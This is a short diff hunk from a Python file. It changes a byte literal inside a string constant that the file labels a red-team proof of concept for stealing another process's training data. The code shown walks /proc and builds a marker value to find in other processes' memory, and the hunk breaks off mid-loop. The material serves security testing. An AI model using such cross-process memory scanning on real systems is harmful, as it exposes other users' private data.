@@ -389,7 +389,7 @@ def generate_hard_anomalies(n_samples, model, X_train):
 #: (red-team PoC os_probe.py, concurrent) looking for the victim's X_train.
 _STEAL = '''
 me, found, opened = os.getpid(), [], []
-needle = bytes.fromhex("00000000409ade40") * 3   # 31337.0 as float64, three times
+needle = b"\\x00\\x00\\x00\\x00\\x40\\x9a\\xde\\x40" * 3   # 31337.0 as float64, three times
 for p in os.listdir("/proc"):
     if not p.isdigit() or int(p) == me:
         continue
